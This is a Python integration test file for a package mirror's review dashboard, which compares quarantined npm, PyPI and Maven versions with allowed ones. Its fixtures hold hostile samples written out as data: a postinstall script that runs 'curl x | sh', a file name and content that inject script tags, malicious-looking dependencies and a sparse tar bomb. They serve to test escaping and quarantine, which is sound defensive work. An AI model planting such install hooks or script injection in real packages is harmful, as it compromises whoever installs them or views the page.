"""The dashboard's review page through the whole app: a held npm version against the newest
allowed one (files, package.json and install-script diffs, signals, who asked for it, the
admin's forms), hostile names and lines shown as text, no baseline, login required."""

from __future__ import annotations

import asyncio
import html
import os
import re
import threading
import time
from datetime import timedelta
from functools import partial

import pytest
from pytest_aiohttp import AiohttpServer

from mirror.services import SERVICES
from mirror.ui.pages import review
from mirror.ui.pages.review import REVIEWS_AT_ONCE
from tests.fakes.maven import FakeMavenRepository
from tests.fakes.npm import FakeNpmRegistry, make_tarball
from tests.fakes.pypi import FakePypiIndex
from tests.integration.conftest import NOW, OLD, Client, MakeClient
from tests.integration.dashboard import DASHBOARD_TOKENS, READER, log_in, page
from tests.unit.test_archives import sparse_bomb

HOSTILE_FILE = "<script>alert(1)</script>.js"
READ_TOKEN = "ci-read-token-0123456789"
REVIEW = "/ui/review?ecosystem=npm&package=left-pad&version=1.4.0"


@pytest.fixture
async def registry(aiohttp_server: AiohttpServer) -> FakeNpmRegistry:
    registry = FakeNpmRegistry()
    registry.add_version("left-pad", "1.2.0", published=OLD - timedelta(days=10))
    registry.add_version("left-pad", "1.3.0", published=OLD)
    registry.add_version("left-pad", "1.4.0", published=NOW - timedelta(hours=5))
    registry.add_version("fresh-only", "0.1.0", published=NOW - timedelta(hours=2))
    await registry.start(aiohttp_server)
    registry.replace_tarball(
        "left-pad",
        "1.4.0",
        make_tarball(
            "left-pad",
            "1.4.0",
            extra={"scripts": {"postinstall": "node install.js"}, "dependencies": {}},
            files={
                "install.js": b"require('child_process').exec('curl x | sh');\n",
                HOSTILE_FILE: b"document.write('<script>steal()</script>');\n",
            },
        ),
    )
    return registry


@pytest.fixture
def make_mirror(make_mirror: MakeClient, registry: FakeNpmRegistry) -> MakeClient:
    return partial(
        make_mirror,
        MIRROR_NPM_UPSTREAM=registry.url,
        MIRROR_ACCESS_TOKENS=f"ci:{READ_TOKEN}",
        **DASHBOARD_TOKENS,
    )


def text_of(page_html: str) -> str:
    """What a reader sees: tags dropped, entities decoded."""
    return html.unescape(re.sub(r"<[^>]+>", "", page_html))


async def test_a_held_version_is_compared_with_the_newest_allowed_one(client: Client) -> None:
    # A client asks for the held version as npm would: the packument, then the tarball.
    token = {"Authorization": f"Bearer {READ_TOKEN}"}
    assert (await client.get("/npm/left-pad", headers=token)).status == 200
    refused = await client.get("/npm/left-pad/-/left-pad-1.4.0.tgz", headers=token)
    assert refused.status == 403
    await client.app[SERVICES].holds.flush()
    await log_in(client)
    body = await page(client, REVIEW)
    shown = text_of(body)
    assert "quarantined" in shown
    assert "1.3.0 (the newest allowed version)" in shown
    assert "left-pad-1.3.0.tgz" in shown
    assert "left-pad-1.4.0.tgz" in shown
    assert "install script added (postinstall: node install.js)" in shown
    # the policy's risk signals of the version (none computed for it here) beside the diff's
    risk = text_of(body.split('id="risk"', 1)[1].split("</section>", 1)[0])
    assert "No risk signal: the metadata shows nothing the risk rules look for" in risk
    # the package.json diff shows the postinstall line, the files table the new files
    assert '+    "postinstall": "node install.js"' in shown
    assert re.search(r"install\.js\s*added", shown)
    assert re.search(r"package\.json\s*changed", shown)
    assert "install script file install.js" in shown
    assert "+require('child_process').exec('curl x | sh');" in shown
    # who asked for it: the client held back, its read token, how often; nobody downloaded it
    asked = text_of(body.split('id="pulled"', 1)[1].split("</section>", 1)[0])
    assert "2 requests held back by quarantine" in asked
    assert "by 1 client." in asked
    requesters = body.split('id="held-requesters"', 1)[1].split("</table>", 1)[0]
    assert "<tr><td>127.0.0.1</td><td>ci</td></tr>" in requesters
    assert "Nobody has downloaded this version through the mirror" in asked
    # hostile names and lines are text, never markup
    assert "<script>" not in body
    assert HOSTILE_FILE in shown
    assert "+document.write('<script>steal()</script>');" in shown
    # the admin's forms carry what the rules pages take
    for action in ("/ui/rules/exemption/preview", "/ui/rules/block/preview"):
        form = body[body.index(f'action="{action}"') :]
        form = form[: form.index("</form>")]
        assert 'name="ecosystem" value="npm"' in form
        assert 'name="package" value="left-pad"' in form
        assert 'name="versions" value="===1.4.0"' in form  # exactly this version
        assert re.search(r'name="reason" required', form)
        assert re.search(r'name="csrf" value="[^"]+"', form)
    # read for the review, still never served to a client
    assert (await client.get("/npm/left-pad/-/left-pad-1.4.0.tgz")).status == 403


async def test_a_package_with_no_allowed_version_has_no_baseline(client: Client) -> None:
    await log_in(client)
    shown = text_of(await page(client, "/ui/review?ecosystem=npm&package=fresh-only&version=0.1.0"))
    assert "Baseline" in shown
    assert "no allowed version of fresh-only to compare with" in shown
    assert re.search(r"package\.json\s*added", shown)


async def test_the_page_needs_a_login_and_a_read_only_login_gets_no_forms(client: Client) -> None:
    response = await client.get(REVIEW, allow_redirects=False)
    assert response.status == 303
    assert response.headers["Location"].startswith("/ui/login?next=")
    await log_in(client, READER)
    body = await page(client, REVIEW)
    assert "install script added" in text_of(body)
    assert "/ui/rules/block/preview" not in body


async def test_a_bad_request_is_an_html_error(client: Client) -> None:
    await log_in(client)
    body = await page(client, "/ui/review?ecosystem=npm&package=left-pad", status=400)
    assert "version: required" in text_of(body)
    body = await page(client, "/ui/review?ecosystem=npm&package=left-pad&version=9.9.9", status=404)
    assert "9.9.9" in text_of(body)


async def test_pypi_versions_compare_the_same_kind_of_file(
    aiohttp_server: AiohttpServer, make_mirror: MakeClient
) -> None:
    index = FakePypiIndex()
    index.add_wheel("demo-lib", "1.0.0", uploaded=OLD)
    index.add_sdist("demo-lib", "1.0.0", uploaded=OLD)
    index.add_wheel(
        "demo-lib",
        "2.0.0",
        uploaded=NOW - timedelta(hours=5),
        headers=[("Requires-Dist", "evil-dep>=1"), ("Requires-Dist", "<script>x</script>")],
    )
    index.add_sdist("demo-lib", "2.0.0", uploaded=NOW - timedelta(hours=5))
    index.add_sdist("only-sdist", "1.0.0", uploaded=OLD)
    index.add_wheel("only-sdist", "1.1.0", uploaded=NOW - timedelta(hours=1))
    index.add_sdist("only-sdist", "1.1.0", uploaded=NOW - timedelta(hours=1))
    await index.start(aiohttp_server)
    client = await make_mirror(MIRROR_PYPI_UPSTREAM=index.url)
    await log_in(client)
    body = await page(client, "/ui/review?ecosystem=pypi&package=demo-lib&version=2.0.0")
    shown = text_of(body)
    assert "1.0.0 (the newest allowed version)" in shown
    assert "demo_lib-1.0.0-py3-none-any.whl" in shown
    assert "demo_lib-2.0.0-py3-none-any.whl" in shown
    assert "+Requires-Dist: evil-dep>=1" in shown
    assert "new dependencies: evil-dep" in shown
    assert "<script>" not in body
    # the baseline has no wheel: the sdists are compared (their top directory set aside)
    shown = text_of(
        await page(client, "/ui/review?ecosystem=pypi&package=only-sdist&version=1.1.0")
    )
    assert "only_sdist-1.0.0.tar.gz" in shown
    assert "only_sdist-1.1.0.tar.gz" in shown
    assert re.search(r"PKG-INFO\s*changed", shown)
    assert "+Version: 1.1.0" in shown


async def test_maven_versions_compare_jars_and_poms(
    aiohttp_server: AiohttpServer, make_mirror: MakeClient
) -> None:
    repo = FakeMavenRepository()
    repo.add_version("org.example", "lib", "1.0", published=OLD)
    repo.add_version(
        "org.example",
        "lib",
        "1.1",
        published=NOW - timedelta(hours=5),
        dependencies=[("com.evil", "payload", "6.6.6")],
    )
    await repo.start(aiohttp_server)
    client = await make_mirror(MIRROR_MAVEN_UPSTREAM=repo.url, MIRROR_UPSTREAM_RETRIES="0")
    await log_in(client)
    shown = text_of(
        await page(client, "/ui/review?ecosystem=maven&package=org.example:lib&version=1.1")
    )
    assert "1.0 (the newest allowed version)" in shown
    assert "lib-1.0.jar" in shown
    assert "lib-1.1.jar" in shown
    assert "manifest (lib-1.1.pom)" in shown
    assert "new dependencies: com.evil:payload" in shown
    assert re.search(r"lib\.properties\s*changed", shown)
    assert "+version=1.1" in shown


async def test_a_sparse_tar_bomb_is_listed_not_read_and_the_mirror_goes_on_serving(
    client: Client, registry: FakeNpmRegistry
) -> None:
    registry.replace_tarball("left-pad", "1.4.0", sparse_bomb())
    await log_in(client, READER)
    for _reload in range(REVIEWS_AT_ONCE + 3):
        shown = text_of(await page(client, REVIEW))
        assert "package/zeros.bin is a sparse file: listed, not read" in shown
    allowed = await client.get("/npm/left-pad/-/left-pad-1.3.0.tgz")
    assert allowed.status == 200


async def test_a_file_larger_than_a_review_reads_is_refused_while_downloading_and_not_cached(
    client: Client, registry: FakeNpmRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = make_tarball("left-pad", "1.4.0", files={"blob.bin": os.urandom(200_000)})
    registry.replace_tarball("left-pad", "1.4.0", big)
    monkeypatch.setattr(review, "MAX_ARTIFACT_BYTES", 100_000)
    await log_in(client, READER)
    tarball = registry.tarball_path("left-pad", "1.4.0")
    for fetches in (1, 2):
        shown = text_of(await page(client, REVIEW))
        assert "left-pad-1.4.0.tgz is over the 100000 bytes this download may fetch" in shown
        # nothing cached: the next review asks upstream again
        assert sum(r.path == tarball for r in registry.requests) == fetches


async def test_a_review_out_of_time_is_cut_short(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(review, "REVIEW_SECONDS", 0.0)
    await log_in(client)
    shown = text_of(await page(client, REVIEW))
    assert "review cut short" in shown


async def test_a_review_slot_is_held_until_its_thread_ends() -> None:
    workers = review.ReviewWorkers(at_once=1)
    release = threading.Event()
    try:
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.05), workers.slot(time.monotonic() + 5) as slot:
                await slot.run(release.wait)
        # the page stopped waiting, the thread did not: a second review waits for it
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.2), workers.slot(time.monotonic() + 5):
                pass
        release.set()
        async with asyncio.timeout(5), workers.slot(time.monotonic() + 5) as slot:
            name = await slot.run(lambda: threading.current_thread().name)
            assert name.startswith("ui-review")
            assert not slot.expired()
    finally:
        release.set()
        workers.close()
